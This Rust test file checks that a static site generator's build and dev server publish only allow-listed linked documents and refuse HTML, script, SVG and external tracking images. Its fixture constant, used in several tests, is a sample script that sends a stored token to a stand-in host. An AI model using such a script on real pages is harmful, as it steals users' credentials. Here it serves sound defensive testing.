//! The one gate of the output, through the real binary: a linked file is published only when its
//! bytes are a document of the allow-list named for its type; a page, a script or an unknown
//! file is `asset.type` at its link and the build publishes nothing; an image of another site is
//! `asset.external`; files no body links to are not published; `serve` answers documents with
//! their type and `nosniff`, and nothing the gate refuses.

#[path = "support/documents.rs"]
mod documents;
mod fixture_site;

use fixture_site::Site;
use std::path::Path;
use std::process::{Command, Output};

const ABOUT: &str = "content/pages/about.md";
const ASSETS: &str = "content/pages/assets";
const SCRIPT: &str = "<html><script>fetch('//e.example/?'+localStorage.token)</script></html>";

fn wijk(site: &Site, args: &[&str]) -> Output {
    Command::new(env!("CARGO_BIN_EXE_wijk"))
        .arg("--root")
        .arg(site.root())
        .args(args)
        .env("NO_COLOR", "1")
        .env("WIJK_LANG", "en")
        .output()
        .unwrap()
}

fn text(o: &Output) -> String {
    format!(
        "{}{}",
        String::from_utf8_lossy(&o.stdout),
        String::from_utf8_lossy(&o.stderr)
    )
}

/// The small fixture whose `about` page body is `body` (from line 4 of the file).
fn site_with_about(body: &str) -> Site {
    let s = Site::fixture("build-small");
    s.write(ABOUT, format!("---\ntitle: À propos\n---\n{body}"));
    s
}

fn build(s: &Site) -> (Output, std::path::PathBuf) {
    let out = s.root().join("public");
    let o = wijk(s, &["build", "--out", out.to_str().unwrap()]);
    (o, out)
}

fn files_under(dir: &Path) -> Vec<String> {
    let mut files: Vec<String> = walkdir::WalkDir::new(dir)
        .into_iter()
        .map(Result::unwrap)
        .filter(|e| e.file_type().is_file())
        .map(|e| {
            e.path()
                .strip_prefix(dir)
                .unwrap()
                .to_string_lossy()
                .into_owned()
        })
        .collect();
    files.sort();
    files
}

#[test]
fn publishes_linked_documents_byte_for_byte_and_nothing_unlinked() {
    let docs: [(&str, Vec<u8>); 5] = [
        ("plan.pdf", documents::pdf()),
        ("plan.odt", documents::odt()),
        ("plan.docx", documents::docx()),
        (
            "budget.csv",
            "\u{feff}poste;montant\r\nbacs;180,50\r\n".into(),
        ),
        ("horaires.txt", "Lundi : 9 h – 12 h\n".into()),
    ];
    let links: Vec<String> = docs
        .iter()
        .map(|(n, _)| format!("[{n}](assets/{n})"))
        .collect();
    let s = site_with_about(&format!("Documents : {}\n", links.join(", ")));
    for (name, bytes) in &docs {
        s.write(&format!("{ASSETS}/{name}"), bytes);
    }
    s.write(&format!("{ASSETS}/unlinked.pdf"), documents::pdf());
    s.write(&format!("{ASSETS}/notes.html"), SCRIPT);
    s.write(
        "content/districts/bervoets/assets/brouillon.txt",
        "brouillon",
    );
    let (o, out) = build(&s);
    assert_eq!(o.status.code(), Some(0), "{}", text(&o));
    let media = out.join("media");
    let published = files_under(&media);
    for (name, bytes) in &docs {
        let path = format!("pages/assets/{name}");
        assert!(published.contains(&path), "{path} not in {published:?}");
        assert_eq!(&std::fs::read(media.join(&path)).unwrap(), bytes, "{name}");
    }
    // The rest of media/ is the resized copies of the pictures shown.
    let others: Vec<&String> = published
        .iter()
        .filter(|p| !p.starts_with("pages/assets/"))
        .collect();
    assert!(!others.is_empty());
    for p in others {
        assert!(
            p.starts_with("districts/bervoets/assets/bacs-") && p.ends_with(".png"),
            "{p}"
        );
    }
    assert_eq!(
        published.iter().filter(|p| p.starts_with("pages/")).count(),
        docs.len()
    );
    let page = std::fs::read_to_string(out.join("fr/pages/about/index.html")).unwrap();
    assert!(page.contains("/media/pages/assets/plan.pdf\""), "{page}");
}

#[test]
fn refuses_a_linked_page_at_its_link_and_keeps_the_previous_site() {
    let s = site_with_about("Le programme.\n\n[le plan](assets/plan.pdf)\n");
    s.write(&format!("{ASSETS}/plan.pdf"), documents::pdf());
    let (o, out) = build(&s);
    assert_eq!(o.status.code(), Some(0), "{}", text(&o));
    s.write(&format!("{ASSETS}/e.html"), SCRIPT);
    s.write(ABOUT, "---\ntitle: À propos\n---\nLe programme.\n\n[le plan](assets/plan.pdf) et [voir](assets/e.html)\n");
    let checked = wijk(&s, &["check"]);
    assert_eq!(checked.status.code(), Some(1));
    let t = text(&checked);
    assert!(
        t.contains("content/pages/about.md:6:31") && t.contains("asset.type"),
        "{t}"
    );
    assert!(t.contains("HTML files are not published"), "{t}");
    let (o, _) = build(&s);
    assert_eq!(o.status.code(), Some(1), "{}", text(&o));
    assert!(text(&o).contains("asset.type"));
    let all = files_under(&out);
    assert!(
        all.iter()
            .all(|p| !p.ends_with(".html") || !p.starts_with("media/")),
        "{all:?}"
    );
    assert!(
        all.contains(&"media/pages/assets/plan.pdf".to_string()),
        "the previous site stays"
    );
}

#[test]
fn refuses_every_linked_type_a_browser_would_run() {
    for (name, bytes) in [
        ("e.htm", SCRIPT.as_bytes().to_vec()),
        ("e.xhtml", SCRIPT.as_bytes().to_vec()),
        ("e.js", b"fetch('//e.example/?'+localStorage.token)".to_vec()),
        ("e.xml", b"<?xml version=\"1.0\"?><html xmlns=\"http://www.w3.org/1999/xhtml\"><script>x()</script></html>".to_vec()),
        ("e.svg", b"<svg xmlns=\"http://www.w3.org/2000/svg\"><script>x()</script></svg>".to_vec()),
        ("e.svgz", vec![0x1f, 0x8b, 8, 0, 0, 0, 0, 0]),
        ("e", SCRIPT.as_bytes().to_vec()),
        ("e.html", documents::pdf()),
        ("e.pdf", SCRIPT.as_bytes().to_vec()),
    ] {
        let s = site_with_about(&format!("[voir](assets/{name})\n"));
        s.write(&format!("{ASSETS}/{name}"), &bytes);
        let (o, out) = build(&s);
        let t = text(&o);
        assert_eq!(o.status.code(), Some(1), "{name}: {t}");
        assert!(t.contains("content/pages/about.md:4:1") && t.contains("asset.type"), "{name}: {t}");
        assert!(!out.exists(), "{name}: nothing is published");
    }
}

#[test]
fn refuses_images_of_other_sites() {
    for body in [
        "![Pixel](https://tracker.example/p.png)",
        "![Pixel](//tracker.example/p.png)",
        "<img src=\"https://tracker.example/p.png\" alt=\"\">",
    ] {
        let s = site_with_about(&format!("{body}\n"));
        let (o, out) = build(&s);
        let t = text(&o);
        assert_eq!(o.status.code(), Some(1), "{body}: {t}");
        assert!(
            t.contains("content/pages/about.md:4:1") && t.contains("asset.external"),
            "{t}"
        );
        assert!(!out.exists());
    }
}

/// `wijk serve --port 0` on `s`, killed when dropped; its address.
struct Server(std::process::Child, String);

impl Drop for Server {
    fn drop(&mut self) {
        let _ = self.0.kill();
        let _ = self.0.wait();
    }
}

fn serve(s: &Site) -> Server {
    use std::io::BufRead;
    let mut child = Command::new(env!("CARGO_BIN_EXE_wijk"))
        .arg("--root")
        .arg(s.root())
        .args(["serve", "--port", "0"])
        .env("WIJK_LANG", "en")
        .env("NO_COLOR", "1")
        .stdout(std::process::Stdio::piped())
        .stderr(std::process::Stdio::null())
        .spawn()
        .unwrap();
    let mut line = String::new();
    std::io::BufReader::new(child.stdout.take().unwrap())
        .read_line(&mut line)
        .unwrap();
    let url = line
        .trim()
        .strip_prefix("serving ")
        .unwrap()
        .trim_end_matches('/');
    Server(child, url.to_string())
}

/// One answer: status, a header's value, body.
fn get(server: &Server, path: &str, header: &str) -> (u16, String, String, Vec<u8>) {
    let agent: ureq::Agent = ureq::Agent::config_builder()
        .http_status_as_error(false)
        .timeout_global(Some(std::time::Duration::from_secs(10)))
        .build()
        .into();
    let mut r = agent.get(&format!("{}{path}", server.1)).call().unwrap();
    let value = |name: &str| {
        r.headers()
            .get(name)
            .map(|v| v.to_str().unwrap().to_string())
            .unwrap_or_default()
    };
    let (kind, other) = (value("content-type"), value(header));
    let status = r.status().as_u16();
    (status, kind, other, r.body_mut().read_to_vec().unwrap())
}

#[test]
fn serve_answers_documents_with_their_type_and_no_page_of_content() {
    let s = site_with_about("[le plan](assets/plan.pdf), [le budget](assets/budget.csv)\n");
    s.write(&format!("{ASSETS}/plan.pdf"), documents::pdf());
    s.write(&format!("{ASSETS}/budget.csv"), "poste;montant\n");
    s.write(&format!("{ASSETS}/e.html"), SCRIPT);
    let server = serve(&s);
    let (status, kind, nosniff, body) = get(
        &server,
        "/media/pages/assets/plan.pdf",
        "x-content-type-options",
    );
    assert_eq!(
        (status, kind.as_str(), nosniff.as_str()),
        (200, "application/pdf", "nosniff")
    );
    assert_eq!(body, documents::pdf());
    let (status, kind, csp, _) = get(
        &server,
        "/media/pages/assets/budget.csv",
        "content-security-policy",
    );
    assert_eq!((status, kind.as_str()), (200, "text/csv; charset=utf-8"));
    assert!(csp.starts_with("sandbox"), "{csp}");
    // Not linked: not part of the site.
    let (status, _, nosniff, body) = get(
        &server,
        "/media/pages/assets/e.html",
        "x-content-type-options",
    );
    assert_eq!((status, nosniff.as_str()), (404, "nosniff"));
    assert!(!String::from_utf8_lossy(&body).contains("localStorage"));
    // Linked: the site has an error, and every page shows it instead of the file.
    s.write(ABOUT, "---\ntitle: À propos\n---\n[voir](assets/e.html)\n");
    let start = std::time::Instant::now();
    loop {
        let (status, _, _, body) = get(&server, "/media/pages/assets/e.html", "");
        let body = String::from_utf8_lossy(&body).into_owned();
        assert!(!body.contains("localStorage"), "{body}");
        if status == 500 && body.contains("asset.type") {
            break;
        }
        // A budget only a server that never sees the change reaches.
        assert!(start.elapsed().as_secs() < 30, "{status}: {body}");
        std::thread::sleep(std::time::Duration::from_millis(50));
    }
}
